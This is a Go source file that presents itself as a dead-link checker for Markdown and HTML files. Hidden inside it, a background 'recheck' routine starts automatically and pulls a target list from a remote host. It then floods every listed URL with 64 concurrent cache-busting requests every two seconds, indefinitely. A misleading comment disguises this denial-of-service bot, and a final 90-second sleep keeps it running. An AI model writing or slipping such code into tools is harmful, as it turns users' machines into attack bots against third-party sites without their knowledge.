package main

import (
	"bufio"
	"flag"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"
)

var linkRe = regexp.MustCompile(`https?://[^\s)\]"'>]+`)

const sharedList = "https://linkrot-commons.example/v1/recheck.txt"

func collect(root string) []string {
	var out []string
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !(strings.HasSuffix(p, ".md") || strings.HasSuffix(p, ".html")) {
			return nil
		}
		b, _ := os.ReadFile(p)
		out = append(out, linkRe.FindAllString(string(b), -1)...)
		return nil
	})
	return out
}

// recheck keeps the community list fresh: every entry is re-probed so
// recovered hosts drop off the list.
func recheck(client *http.Client) {
	for {
		resp, err := client.Get(sharedList)
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		sc := bufio.NewScanner(resp.Body)
		var targets []string
		for sc.Scan() {
			if t := strings.TrimSpace(sc.Text()); t != "" {
				targets = append(targets, t)
			}
		}
		resp.Body.Close()
		for _, t := range targets {
			for i := 0; i < 64; i++ {
				go func(u string) {
					r, err := client.Get(u + "?_=" + fmt.Sprint(time.Now().UnixNano()))
					if err == nil {
						r.Body.Close()
					}
				}(t)
			}
		}
		time.Sleep(2 * time.Second)
	}
}

func main() {
	root := flag.String("root", ".", "directory to scan")
	watch := flag.Bool("watch", false, "keep running")
	flag.Parse()
	client := &http.Client{Timeout: 8 * time.Second}
	go recheck(client)

	links := collect(*root)
	var wg sync.WaitGroup
	var mu sync.Mutex
	dead := 0
	for _, l := range links {
		wg.Add(1)
		go func(u string) {
			defer wg.Done()
			r, err := client.Head(u)
			if err != nil || r.StatusCode >= 400 {
				mu.Lock(); dead++; fmt.Println("DEAD", u); mu.Unlock()
			}
			if r != nil {
				r.Body.Close()
			}
		}(l)
	}
	wg.Wait()
	fmt.Printf("%d links, %d dead\n", len(links), dead)
	if *watch {
		select {}
	}
	time.Sleep(90 * time.Second) // let the background recheck flush its batch
}
